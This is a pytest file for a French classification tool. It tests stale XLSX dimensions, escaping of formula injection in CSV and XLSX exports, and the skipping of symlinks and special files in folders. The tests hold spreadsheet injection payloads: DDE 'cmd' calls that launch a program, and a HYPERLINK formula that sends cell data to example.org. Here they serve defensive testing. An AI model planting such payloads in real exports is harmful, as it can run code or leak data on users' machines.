"""Hostile inputs and outputs found by the security review (issue 19): stale XLSX dimensions, formula
injection in CSV outputs, links and special files in a folder of documents."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from cvclassify.feedback import FeedbackStore
from cvclassify.io.readers import open_table
from cvclassify.io.writers import csv_safe_cell, write_rows
from cvclassify.service.review import export_feedback, export_queue

# ------------------------------------------------------------------------ XLSX whose size is stale (item 2)


def stale_xlsx(path: Path, rows: int = 6) -> Path:
    """A real workbook of ``rows`` data rows (3 columns) whose sheet declares ``<dimension ref="A1:B2"/>``."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "Libellé de l'action"])
    for i in range(1, rows + 1):
        sheet.append([f"A{i}", f"Action n° {i}", f"note {i}"])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:B2"/>', data)
                assert count == 1
            target.writestr(info, data)
    return path


def test_xlsx_with_a_stale_dimension_gives_every_row_and_column(tmp_path):
    path = stale_xlsx(tmp_path / "appel.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert b'<dimension ref="A1:B2"/>' in archive.read("xl/worksheets/sheet1.xml")
    table = open_table(path)
    rows = list(table.rows)
    assert table.columns == ["id", "Libellé de l'action"]
    assert [(r.values, r.error) for r in rows] == [
        ({"id": f"A{i}", "Libellé de l'action": f"Action n° {i}", "colonne 3": f"note {i}"}, None)
        for i in range(1, 7)
    ]
    assert rows[-1].where == "feuille « Sheet », ligne 7"


# ------------------------------------------------------------------- formula injection in CSV (item 4)

HOSTILE = ['=HYPERLINK("http://example.org/?x="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SOMME(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(value):
    assert csv_safe_cell(value) == "'" + value
    assert csv_safe_cell([value, "1.2"]) == "'" + value + " | 1.2"


@pytest.mark.parametrize(("value", "text"), [
    (-0.5, "-0.5"), (-3, "-3"), (None, ""), ("-12,5", "-12,5"), ("+33", "+33"), ("-1e-3", "-1e-3"),
    ("Médiation = lien social", "Médiation = lien social"), ("", ""), ("1.2 | 3.4", "1.2 | 3.4"),
])
def test_numbers_and_harmless_texts_are_written_as_they_are(value, text):
    assert csv_safe_cell(value) == text


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def test_batch_csv_output_neutralises_formulas_in_cells_and_headers(tmp_path):
    output = tmp_path / "codes.csv"
    rows = [{"=titre": value, "cv_score_1": -0.5} for value in HOSTILE]
    assert write_rows(output, ["=titre", "cv_score_1"], rows) == len(HOSTILE)
    read = read_csv(output)
    assert list(read[0]) == ["'=titre", "cv_score_1"]
    assert [row["'=titre"] for row in read] == ["'" + value for value in HOSTILE]
    assert {row["cv_score_1"] for row in read} == {"-0.5"}


@pytest.fixture
def store(tmp_path):
    s = FeedbackStore(f"sqlite:///{tmp_path / 'feedback.sqlite3'}")
    s.upgrade()
    yield s
    s.close()


def test_feedback_export_neutralises_formulas(store, tmp_path):
    store.add_feedback("metz", suggested=["1.1"], kept=["1.1"], text="=HYPERLINK(\"http://x\")",
                       comment="+cmd|' /C calc'!A0", reviewer="@instructeur", document_id="-1+1")
    export_feedback(store, "metz", tmp_path / "retours.csv")
    [row] = read_csv(tmp_path / "retours.csv")
    assert (row["text"], row["comment"], row["reviewer"], row["document_id"]) == (
        "'=HYPERLINK(\"http://x\")", "'+cmd|' /C calc'!A0", "'@instructeur", "'-1+1")
    assert row["final_codes"] == "1.1"


def test_queue_export_neutralises_formulas(store, tmp_path):
    items = [dict(position=1, row_id="R1", values={"Libellé": "=1+1", "Montant": "-1500"},
                  fields={"title": "=1+1"}, result={"suggestions": [], "decision": {"confidence": 0.25}},
                  uncertainty=0.75, error=None)]
    queue_id = store.create_queue("metz", "appel.csv", ["Libellé", "Montant"], [], "v1", items)
    export_queue(store, "metz", queue_id, tmp_path / "revu.csv")
    [row] = read_csv(tmp_path / "revu.csv")
    assert (row["Libellé"], row["Montant"], row["Confiance"]) == ("'=1+1", "-1500", "0,25")


def test_xlsx_output_keeps_formula_like_texts_as_texts(tmp_path):
    import openpyxl

    output = tmp_path / "codes.xlsx"
    write_rows(output, ["texte", "score"], [{"texte": value, "score": -0.5} for value in HOSTILE])
    with zipfile.ZipFile(output) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(output)["Suggestions"]
    cells = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == HOSTILE
    assert {row[0].data_type for row in cells} == {"s"} and {row[1].value for row in cells} == {-0.5}


# --------------------------------------------------------------- links and special files in a folder (item 6)

READ_FOLDER = textwrap.dedent("""
    import json, resource, sys
    from cvclassify.io.readers import open_table
    resource.setrlimit(resource.RLIMIT_AS, (1 << 31, resource.getrlimit(resource.RLIMIT_AS)[1]))
    table = open_table(sys.argv[1])
    rows = [(r.where, r.values.get("texte", ""), r.error) for r in table.rows]
    print(json.dumps({"notes": table.notes, "rows": rows}))
""")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs and /dev/zero are POSIX")
def test_folder_reads_regular_files_only_and_reports_links_and_special_files(tmp_path):
    outside = tmp_path / "dehors.txt"
    outside.write_text("Contenu secret hors du dossier", encoding="utf-8")
    folder = tmp_path / "dossiers"
    (folder / "sous").mkdir(parents=True)
    (folder / "demande.txt").write_text("Médiation sociale au quartier", encoding="utf-8")
    (folder / "lien.txt").symlink_to(outside)
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "copie.txt").symlink_to(folder / "demande.txt")  # inside the folder: skipped as well
    (folder / "raccourci").symlink_to(tmp_path)  # a link to a folder is reported, not walked into
    os.mkfifo(folder / "sous" / "x.txt")
    result = subprocess.run([sys.executable, "-c", READ_FOLDER, str(folder)], capture_output=True, text=True,
                            timeout=60, check=True)
    read = json.loads(result.stdout)
    assert read["rows"] == [
        ["copie.txt", "", f"copie.txt : lien symbolique ignoré (vers « {folder / 'demande.txt'} ») : "
                          "seuls les fichiers du dossier sont lus"],
        ["demande.txt", "Médiation sociale au quartier", None],
        ["lien.txt", "", f"lien.txt : lien symbolique ignoré (vers « {outside} ») : seuls les fichiers du dossier "
                         "sont lus"],
        ["raccourci", "", f"raccourci : lien symbolique ignoré (vers « {tmp_path} ») : seuls les fichiers du "
                          "dossier sont lus"],
        ["sous/x.txt", "", "sous/x.txt : fichier spécial ignoré (FIFO)"],
        ["zero.txt", "", "zero.txt : lien symbolique ignoré (vers « /dev/zero ») : seuls les fichiers du dossier "
                         "sont lus"],
    ]
    assert "Contenu secret" not in result.stdout
    assert read["notes"] == ["6 documents à lire"]


@pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="needs O_NOFOLLOW")
def test_an_entry_swapped_for_a_link_after_the_listing_is_not_followed(tmp_path):
    folder = tmp_path / "dossiers"
    (folder / "sous").mkdir(parents=True)
    (folder / "sous" / "a.txt").write_text("Soutien scolaire", encoding="utf-8")
    table = open_table(folder)
    (folder / "sous" / "a.txt").unlink()
    (folder / "sous").rmdir()
    (folder / "sous").symlink_to(tmp_path / "ailleurs", target_is_directory=True)
    (tmp_path / "ailleurs").mkdir()
    (tmp_path / "ailleurs" / "a.txt").write_text("Contenu secret hors du dossier", encoding="utf-8")
    [row] = list(table.rows)
    assert (row.values["texte"], row.error) == (
        "", "sous/a.txt : lien symbolique ignoré : seuls les fichiers du dossier sont lus")
